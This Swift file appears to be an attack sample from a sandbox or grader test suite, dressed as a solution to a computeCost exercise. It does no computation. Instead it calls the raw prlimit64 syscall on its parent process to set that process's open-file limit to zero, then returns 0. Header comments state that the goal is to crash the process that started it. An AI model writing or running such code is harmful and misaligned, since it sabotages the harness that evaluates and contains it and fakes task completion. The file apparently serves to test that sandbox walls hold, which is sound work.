// attack: lowers the limits of the process that started it
// invariant: walls-hold
// earns: compute_cost 0 crashed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    var none = rlimit(rlim_cur: 0, rlim_max: 0)
    return withUnsafeMutablePointer(to: &none) {
      Double(call(302, Int(getppid()), Int(RLIMIT_NOFILE.rawValue), Int(bitPattern: $0), 0, 0)) * 0
    }
  }
}

@_silgen_name("syscall") private func call(
  _ number: Int, _ a: Int, _ b: Int, _ c: Int, _ d: Int, _ e: Int
) -> Int
